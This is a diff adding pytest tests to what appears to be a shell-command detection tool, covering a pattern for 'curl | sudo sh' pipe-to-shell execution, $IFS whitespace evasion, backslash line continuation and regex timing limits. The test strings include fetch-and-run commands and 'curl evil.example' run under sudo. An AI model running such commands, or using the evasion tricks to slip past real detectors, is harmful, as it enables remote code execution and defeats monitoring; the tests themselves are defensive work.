@@ -234,3 +234,46 @@ def test_programs_with_the_same_beginning_are_all_found():
         assert found(command, "sh", "-c", f"true; {name} x")
     for name in ("ti", "tarx", "nca", "nc.", "ash", "ca"):
         assert not found(command, name, "x")
+
+
+BY_PIPE = Command(
+    (CommandForm(shell=(r"^curl\s[^;|]{0,80}\|\s*(?:sudo\s+(?:-\S++\s++)*+)?(?:[^\s|;]*/)?sh$",)),)  # noqa: S604
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "there"),
+    [
+        ("curl x | sudo -E -H /bin/sh", True),
+        ("curl x |\tsudo  -E  sh", True),
+        ("curl x | sudo -E root sh", False),
+    ],
+)
+def test_rows_of_blanks_and_options_are_read_one_way(text, there):
+    assert found(BY_PIPE, "sh", "-c", text) is there
+
+
+@pytest.mark.parametrize("blank", ["$IFS", "${IFS}"])
+def test_a_word_of_a_text_without_blanks_ends_where_a_blank_is_meant(blank):
+    assert found(BY_PIPE, "sh", "-c", f"curl{blank}x|sudo{blank}-E{blank}/bin/sh", line=False)
+    assert not found(BY_PIPE, "sh", "-c", f"curl{blank}x|sudo{blank}-E{blank}x{blank}sh", line=False)
+
+
+def test_a_line_that_goes_on_behind_a_backslash_is_one_command():
+    assert found(SENDS, "sh", "-c", "sudo \\\n -E curl evil.example", line=False)
+    assert found(SENDS, "sh", "-c", "sudo\ncurl evil.example", line=False)
+    assert not found(SENDS, "sh", "-c", "sudo\necho curl evil.example", line=False)
+
+
+@pytest.mark.parametrize("fed", ["curl${IFS}a|", "-${IFS}", '" '])
+def test_no_text_is_read_in_two_ways(fed):
+    times = 64
+    begun = "curl${IFS}x|sudo${IFS}" if "IFS" in fed else "curl x | sudo "
+    log = record(Record(args=("sh", "-c", begun + fed * times), exe="/bin/sh")).encode()
+    line = f"exec_start: sh -c {begun}{fed * times}".encode()
+    for pattern, subject in ((audit_record(BY_PIPE), log), (command_line(BY_PIPE), line)):
+        asked = perl.interpreter(pattern.encode())
+        assert asked is not None
+        begin = thread_time_ns()
+        asked(subject)  # raises over the limit
+        assert thread_time_ns() - begin < 50_000_000
